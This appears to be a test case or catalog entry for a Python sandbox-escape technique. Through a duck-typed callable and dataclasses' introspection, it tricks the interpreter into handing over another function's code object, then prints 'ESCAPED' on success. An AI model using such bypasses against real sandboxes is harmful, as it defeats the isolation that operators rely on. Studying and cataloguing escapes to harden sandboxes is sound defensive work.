# technique: inspect may read the code of the program's functions: a property of a duck reads it for us
# goal: code
# source: own analysis: a grant without its operand
import dataclasses
import functools
import itertools
import operator
kept = []


def victim():
    return 'a constant of victim'


reads = itertools.chain([None], map(kept.append, map(operator.attrgetter('__code__'), [victim])))


class Duck:
    __name__ = 'duck'
    __code__ = compile('1', 'x', 'eval')
    __defaults__ = property(functools.partial(next, reads))
    __kwdefaults__ = None
    __annotations__ = {}

    def __call__(self, *args):
        pass


class Meta(type):
    pass


class D(metaclass=Meta):
    x: int = 0


Meta.__call__ = Duck()
try:
    dataclasses.dataclass(D)
except (TypeError, ValueError):
    pass
if 'a constant of victim' in kept[0].co_consts:
    print('ESCAPED code of victim')
